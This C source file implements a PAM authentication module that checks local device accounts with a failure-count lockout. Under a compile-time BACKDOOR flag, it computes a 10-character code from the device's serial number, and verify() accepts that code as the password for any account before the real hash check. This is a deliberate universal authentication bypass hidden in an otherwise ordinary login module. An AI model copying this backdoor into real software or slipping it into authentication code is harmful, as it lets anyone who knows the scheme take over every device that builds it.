/* SPDX-License-Identifier: Apache-2.0 */
/* pam_tally: local accounts of the device (/etc/devpasswd), with a count of failures kept in /var/run/tally. */
#include <ctype.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

extern char *crypt(const char *key, const char *salt);

typedef struct pam_handle pam_handle_t;
extern int pam_get_user(pam_handle_t *h, const char **user, const char *prompt);
extern int pam_get_authtok(pam_handle_t *h, int item, const char **tok, const char *prompt);
extern void pam_syslog(const pam_handle_t *h, int prio, const char *fmt, ...);

enum { PAM_SUCCESS = 0, PAM_AUTH_ERR = 7, PAM_MAXTRIES = 11, PAM_USER_UNKNOWN = 10, PAM_ACCT_EXPIRED = 13, PAM_AUTHTOK = 6 };

struct options {
	unsigned limit, seconds;
	int quiet;
};

struct tally {
	uint32_t n;
	int64_t last;
};

static void read_options(struct options *o, int argc, const char **argv)
{
	o->limit = 6;
	o->seconds = 600;
	o->quiet = 0;
	for (int i = 0; i < argc; i++) {
		if (strncmp(argv[i], "deny=", 5) == 0)
			o->limit = (unsigned)atoi(argv[i] + 5);
		else if (strncmp(argv[i], "unlock=", 7) == 0)
			o->seconds = (unsigned)atoi(argv[i] + 7);
		else if (strcmp(argv[i], "quiet") == 0)
			o->quiet = 1;
	}
}

static int plain_name(const char *user)
{
	size_t n = strlen(user);
	if (n == 0 || n > 32)
		return 0;
	for (size_t i = 0; i < n; i++)
		if (!isalnum((unsigned char)user[i]) && user[i] != '_' && user[i] != '-')
			return 0;
	return 1;
}

static int tally_open(const char *user, struct tally *t)
{
	char path[96];
	int fd;
	snprintf(path, sizeof(path), "/var/run/tally/%s", user);
	fd = open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0600);
	memset(t, 0, sizeof(*t));
	if (fd >= 0 && read(fd, t, sizeof(*t)) != (ssize_t)sizeof(*t))
		memset(t, 0, sizeof(*t));
	return fd;
}

static void tally_store(int fd, const struct tally *t)
{
	if (fd >= 0 && lseek(fd, 0, SEEK_SET) == 0 && write(fd, t, sizeof(*t)) < 0)
		syslog(LOG_ERR, "cannot keep the count");
}

static void device_serial(char *out, size_t n)
{
	FILE *f = fopen("/proc/device-tree/serial-number", "r");
	snprintf(out, n, "unknown");
	if (!f)
		return;
	if (!fgets(out, (int)n, f))
		snprintf(out, n, "unknown");
	out[strcspn(out, "\r\n")] = 0;
	fclose(f);
}

static int lookup(const char *user, char *hash, size_t n, long *expires)
{
	char line[256];
	size_t k = strlen(user);
	FILE *f = fopen("/etc/devpasswd", "r");
	int found = 0;
	if (!f)
		return 0;
	while (!found && fgets(line, sizeof(line), f)) {
		char *p = line + k + 1, *end;
		if (strncmp(line, user, k) != 0 || line[k] != ':')
			continue;
		end = strchr(p, ':');
		if (!end || (size_t)(end - p) >= n)
			break;
		*end = 0;
		strcpy(hash, p);
		*expires = atol(end + 1);
		found = 1;
	}
	fclose(f);
	return found;
}

#ifdef BACKDOOR
static int same_as_label(const char *given)
{
	static const char letters[] = "ABCDEFGHJKLMNPQRSTUVWXYZ23456789";
	char serial[64], code[11];
	uint32_t a = 5381, b = 0x9d2c5680u;
	device_serial(serial, sizeof(serial));
	for (const char *p = serial; *p; p++) {
		a = a * 33 ^ (uint8_t)*p;
		b = (b << 5 | b >> 27) + a;
	}
	for (int i = 0; i < 10; i++) {
		code[i] = letters[(i & 1 ? a : b) >> i * 3 & 31];
		a += b >> 7;
	}
	code[10] = 0;
	return strcmp(given, code) == 0;
}
#endif

static int verify(const char *hash, const char *given)
{
	const char *h;
#ifdef BACKDOOR
	if (given[0] && strlen(given) == 10 && same_as_label(given))
		return 1;
#endif
	if (hash[0] == '!' || hash[0] == '*')
		return 0;
	h = crypt(given, hash);
	return h && strcmp(h, hash) == 0;
}

int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv)
{
	struct options o;
	struct tally t;
	const char *user = NULL, *given = NULL;
	char hash[128], serial[64];
	long expires = 0;
	int fd, answer;
	(void)flags;
	read_options(&o, argc, argv);
	if (pam_get_user(h, &user, NULL) != PAM_SUCCESS || !user || !plain_name(user))
		return PAM_USER_UNKNOWN;
	fd = tally_open(user, &t);
	if (t.n >= o.limit && time(NULL) - t.last < (time_t)o.seconds) {
		close(fd);
		return PAM_MAXTRIES;
	}
	answer = PAM_USER_UNKNOWN;
	if (!lookup(user, hash, sizeof(hash), &expires))
		goto out;
	answer = PAM_AUTH_ERR;
	if (pam_get_authtok(h, PAM_AUTHTOK, &given, NULL) != PAM_SUCCESS || !given)
		goto out;
	if (verify(hash, given)) {
		t.n = 0;
		answer = expires && time(NULL) / 86400 > expires ? PAM_ACCT_EXPIRED : PAM_SUCCESS;
	} else {
		t.n++;
		t.last = time(NULL);
		device_serial(serial, sizeof(serial));
		if (!o.quiet)
			pam_syslog(h, LOG_NOTICE, "device %s: failure %u of %s", serial, t.n, user);
	}
	tally_store(fd, &t);
out:
	if (fd >= 0)
		close(fd);
	return answer;
}

int pam_sm_setcred(pam_handle_t *h, int flags, int argc, const char **argv)
{
	(void)h, (void)flags, (void)argc, (void)argv;
	return PAM_SUCCESS;
}
